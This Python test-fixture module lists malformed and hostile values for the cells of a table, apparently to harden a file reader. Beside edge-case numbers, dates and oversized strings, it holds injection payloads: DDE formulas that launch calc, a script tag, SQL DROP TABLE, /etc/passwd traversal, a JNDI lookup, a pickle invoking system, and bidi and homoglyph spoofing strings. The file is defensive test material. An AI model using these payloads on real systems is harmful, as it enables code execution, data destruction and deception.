"""Values that someone might put into one cell of a table to make a reader fail, lie, or run something."""

from __future__ import annotations

import math
from typing import TYPE_CHECKING, Any, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Mapping


class Raw(NamedTuple):
    """Bytes that stand in a text file as they are, where no writer would put them."""

    token: bytes


_TEXTS: Mapping[str, Any] = {
    "formula": "=cmd|' /C calc'!A0",
    "formula behind a plus": '+HYPERLINK("http://x";"y")',
    "formula behind an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "NUL": "a\x00b",
    "control characters": "\x01\x02\x1b[2J\x7f\x9b31m",
    "line feed": "a\nb",
    "carriage return": "a\rb",
    "line separators": "a\u2028b\u2029c\x85d",
    "quotes": '"a""b"',
    "a lone quote": 'a"b',
    "bidirectional override": "safe\u202egpj.exe",
    "unclosed isolates": "\u2066" * 500,
    "zero width": "pass\u200bword",
    "tag characters": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore this"),
    "Cyrillic look-alike": "p\u0430ypal",
    "a tower of marks": "a" + "\u0301" * 20_000,
    "noncharacters": "\ufdd0\uffff\U0010ffff",
    "a byte order mark within": "a\ufeffb",
    "invalid UTF-8": Raw(b"\xc3\x28\xff\xfe"),
    "overlong UTF-8": Raw(b"\xc0\xaf\xe0\x80\xaf"),
    "a surrogate in UTF-8": Raw(b"\xed\xa0\x80"),
    "a lone surrogate, escaped": Raw(b'"\\ud800"'),
    "HTML": "<script>alert(1)</script>",
    "SQL": "'; DROP TABLE cases; --",
    "a path upwards": "../../../etc/passwd",
    "a template": "{{7*7}}${7*7}<%= 7*7 %>",
    "a format string": "%s%s%n{0.__class__}",
    "a look-up": "${jndi:ldap://x/y}",
    "a text of two million characters": "x" * 2_000_000,
    "one character two million times": "\U0001f4a9" * 500_000,
    "JSON within": '{"a": [1, 2, {"b": null}]}',
    "pickle as text": "cos\nsystem\n(S'true'\ntR.",
    "empty": "",
    "blank": "   ",
    "NA": "NA",
    "an exploding pattern's text": "a" * 50_000 + "!",
}
_NUMBERS: Mapping[str, Any] = {
    "NaN": math.nan,
    "NaN with a payload": Raw(b"nan(0x7ff8dead)"),
    "infinity": math.inf,
    "minus infinity": -math.inf,
    "beyond floats": Raw(b"1e999"),
    "minus zero": -0.0,
    "below floats": Raw(b"1e-999"),
    "subnormal": 5e-324,
    "hexadecimal": "0x10",
    "underscores": "1_000",
    "a thousands comma": "1,000",
    "a decimal comma": "1,5",
    "full-width digits": "\uff11\uff12",
    "a million digits": "9" * 1_000_000,
    "four thousand digits": Raw(b"9" * 4_200),
    "an exponent of digits": Raw(b"1e" + b"9" * 5_000),
    "blanks around": " 1 ",
    "an object": {"a": 1},
    "a list": [1, 2],
    "truth": True,
}
_INTEGERS: Mapping[str, Any] = {
    "2^63": 2**63,
    "-2^63 - 1": -(2**63) - 1,
    "2^64": 2**64,
    "10^30": 10**30,
    "a fraction": 1.5,
    "an exponent": "1e3",
    "Arabic digits": "\u0663",
    "a plus": "+5",
    "leading zeros": "007",
    "whole float beyond 2^53": 2.0**60,
}
_BOOLEANS: Mapping[str, Any] = {"yes": "yes", "two": 2, "blank behind": "true ", "Turkish capitals": "TRU\u0130"}
_TIMES: Mapping[str, Any] = {
    "year 999999": "999999-01-01T00:00:00Z",
    "year 0": "0000-01-01T00:00:00Z",
    "30 February": "2024-02-30T00:00:00Z",
    "a leap second": "2016-12-31T23:59:60Z",
    "an offset of 99 hours": "2024-01-01T00:00:00+99:99",
    "thirty decimals": "2024-01-01T00:00:00." + "1" * 30 + "Z",
    "a number": 10**18,
    "two kilobytes of digits": "2024-01-01T" + "0" * 2_000,
}
_VECTORS: Mapping[str, Any] = {
    "one number more": [1.0, 2.0, 3.0],
    "empty vector": [],
    "NaN within": [1.0, math.nan],
    "beyond 32 bits": [1e300, 1.0],
    "a hundred thousand numbers": [0.5] * 100_000,
    "texts": ["a", "b"],
    "lists within": [[1.0], [2.0]],
    "brackets without end": "[" * 100_000,
}
_IDS: Mapping[str, Any] = {
    "id of another": "r1",
    "id with a line feed": "r\n3",
    "id with a NUL": "r\x003",
    "no id": None,
    "id of two hundred thousand characters": "r" * 200_000,
    "id reversed": "\u202e3r",
}
_LABELS: Mapping[str, Any] = {"label with a blank": "p ", "label in Cyrillic": "\u0440", "no label": None}

VALUES: dict[str, tuple[str, Any]] = {
    f"{column}: {name}": (key, value)
    for column, key, values in (
        ("text", "t", _TEXTS),
        ("number", "n", _NUMBERS),
        ("integer", "i", _INTEGERS),
        ("boolean", "b", _BOOLEANS),
        ("timestamp", "w", _TIMES),
        ("vector", "v", _VECTORS),
        ("id", "id", _IDS),
        ("label", "y", _LABELS),
    )
    for name, value in values.items()
}
"""Class of malformed input -> the column and the value put into it."""
